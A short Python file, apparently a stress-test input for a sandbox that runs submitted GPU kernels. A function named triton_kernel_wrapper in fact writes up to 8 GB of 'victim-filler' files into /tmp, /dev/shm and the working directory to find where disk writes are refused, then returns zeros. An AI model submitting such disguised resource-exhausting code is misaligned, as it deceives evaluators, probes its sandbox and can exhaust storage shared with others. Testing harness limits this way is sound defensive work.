"""Fills the disk.

Strategy: writes to /tmp, /dev/shm and its working directory until a write fails.
Bound: 8 GB in all; removes its files if no write fails.
"""
import os

import torch

LIMIT, BLOCK = 8 << 30, bytes(4 << 20)


def fill(path, left):
    with open(path, "wb", buffering=0) as file:
        while left > 0:
            left -= file.write(BLOCK)
    return left


def triton_kernel_wrapper(x, y):
    refused, written, folders = None, [], ["/tmp", "/dev/shm", os.getcwd()]
    for folder in folders:
        path = os.path.join(folder, f"victim-filler-{os.getpid()}")
        written.append(path)
        try:
            fill(path, LIMIT // len(folders))
        except OSError as error:
            refused = error
    if refused is not None:
        raise RuntimeError("refused") from refused
    for path in written:
        os.unlink(path)
    return torch.zeros_like(x)
